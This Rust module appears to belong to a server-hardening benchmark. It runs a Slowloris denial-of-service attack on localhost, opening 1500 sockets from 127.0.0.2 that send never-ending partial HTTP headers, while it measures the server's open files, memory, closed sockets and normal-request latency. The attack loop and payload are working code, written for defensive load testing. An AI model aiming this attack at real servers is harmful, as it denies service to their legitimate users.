//! Slowloris: `--count` sockets (default 1500) each send part of a request's headers and
//! then nothing. Reports the files the server holds after `--seconds` (default 15),
//! how many of the sockets it closed, and the latency of a normal request meanwhile.
//!
//! The attack comes from 127.0.0.2 and the normal requests from 127.0.0.1, as from two
//! hosts, so that a per-IP cap limits the attacker without refusing the normal client.

use crate::target::{Figures, Target};
use serde_json::json;
use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpSocket, TcpStream};

/// The attacker's address.
const ATTACKER: [u8; 4] = [127, 0, 0, 2];

/// Attacks `target` and reports what it cost.
pub fn run(target: &Target) -> anyhow::Result<Figures> {
    tokio::runtime::Runtime::new()?.block_on(attack(target))
}

async fn attack(target: &Target) -> anyhow::Result<Figures> {
    let count = target.count.unwrap_or(1500);
    let seconds = target.seconds.unwrap_or(15);
    let server = SocketAddr::from(([127, 0, 0, 1], target.server.port()));
    let (rss_before, _) = target.memory_kib()?;
    let files_before = target.open_files()?;

    eprintln!(
        "{}: {count} partial requests from 127.0.0.2, watched for {seconds} s",
        target.label
    );
    let started = Instant::now();
    let mut sockets = Vec::with_capacity(count);
    let mut connect_failures = 0usize;
    for _ in 0..count {
        match open_partial(server).await {
            Ok(s) => sockets.push(s),
            Err(_) => connect_failures += 1,
        }
    }
    let mut files_peak = target.open_files()?;
    let mut latencies = Vec::new();
    let mut normal_failures = 0usize;
    while started.elapsed() < Duration::from_secs(seconds) {
        match target.normal_latency(1).await {
            Ok((t, _)) => latencies.push(t),
            Err(_) => normal_failures += 1,
        }
        files_peak = files_peak.max(target.open_files()?);
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let files_after = target.open_files()?;
    let closed_by_server = sockets.iter().filter(|s| is_closed(s)).count();
    let (_, peak_rss) = target.memory_kib()?;

    latencies.sort();
    let ms = |d: Option<&Duration>| d.map_or(f64::NAN, |d| d.as_secs_f64() * 1000.0);
    let mut extra = serde_json::Map::new();
    extra.insert("sockets".into(), json!(count));
    extra.insert("connect_failures".into(), json!(connect_failures));
    extra.insert("seconds".into(), json!(seconds));
    extra.insert("files_before".into(), json!(files_before));
    extra.insert("files_peak".into(), json!(files_peak));
    extra.insert("sockets_closed_by_server".into(), json!(closed_by_server));
    extra.insert("normal_requests".into(), json!(latencies.len()));
    extra.insert("normal_failures".into(), json!(normal_failures));
    Ok(Figures {
        label: String::new(),
        rss_before_kib: rss_before,
        peak_rss_kib: peak_rss,
        open_files: files_after,
        normal_p50_ms: ms(latencies.get(latencies.len() / 2)),
        normal_max_ms: ms(latencies.last()),
        extra,
    })
}

/// Connects from [`ATTACKER`] and sends headers that never end.
async fn open_partial(server: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((ATTACKER, 0)))?;
    let mut stream = socket.connect(server).await?;
    stream
        .write_all(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        .await?;
    Ok(stream)
}

/// Whether the server closed (or reset) `stream`: end of file or an error, without waiting.
fn is_closed(stream: &TcpStream) -> bool {
    let mut buf = [0u8; 512];
    loop {
        match stream.try_read(&mut buf) {
            Ok(0) => return true,
            // A refusal answer (503) before the close.
            Ok(_) => continue,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return false,
            Err(_) => return true,
        }
    }
}
